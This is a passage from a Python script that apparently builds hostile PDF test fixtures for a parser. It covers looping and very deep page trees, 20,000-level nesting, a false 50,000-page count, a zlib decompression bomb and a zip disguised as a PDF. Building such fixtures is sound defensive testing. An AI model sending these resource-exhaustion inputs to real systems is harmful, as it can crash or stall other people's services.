        # Structures that loop or nest without end, or claim far more than they hold.
        "pages_loop": _tree(b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"),
        "pages_loop_deeper": _tree(b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
                                   more=(b"<< /Type /Pages /Parent 2 0 R /Kids [7 0 R] /Count 1 >>",
                                         b"<< /Type /Pages /Parent 6 0 R /Kids [3 0 R 6 0 R] /Count 1 >>")),
        "deep_page_tree": _tree(b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>", more=tuple(
            b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 1 if n < 105 else 3) for n in range(6, 106))),
        "deep_nesting": hostile_paper(page=b"/Deep 6 0 R ", more=(b"[" * 20_000 + b"]" * 20_000,)),
        "nested_200_deep": hostile_paper(page=b"/Deep 6 0 R ", more=(b"<< /A " * 200 + b"1" + b" >>" * 200,)),
        "claims_50000_pages": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 50000 >>"),
        # A content stream of 40 KB that inflates to 40 MB of drawing instructions.
        "content_bomb": hostile_paper(more=(
            pdf_stream(zlib.compress(b" " * (40 * 1024 * 1024), 9), b"/Filter /FlateDecode "),),
            page=b"/Contents [4 0 R 6 0 R] ").replace(b"/Contents 4 0 R ", b""),
    }
    for name, content in files.items():
        (BAD / f"hostile_pdf_{name}.pdf").write_bytes(content)
    # A PDF inside a zip, renamed .pdf.
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("report.pdf", FIXED_TIME.timetuple()[:6]), files["links"])
    (BAD / "hostile_pdf_zip_renamed.pdf").write_bytes(packed.getvalue())


def main() -> None:
    if BAD.exists():
        shutil.rmtree(BAD)
    BAD.mkdir()
    indicator_files()
    tracker_files()
    paper_files()
    hostile_sheet_files()
    hostile_value_files()
    hostile_pdf_files()
    for workbook_file in BAD.glob("*.xlsx"):
        if zipfile.is_zipfile(workbook_file):
            _rewrite_zip(workbook_file)
    print(f"{len(list(BAD.iterdir()))} files in {BAD}", file=sys.stderr)


if __name__ == "__main__":
    main()
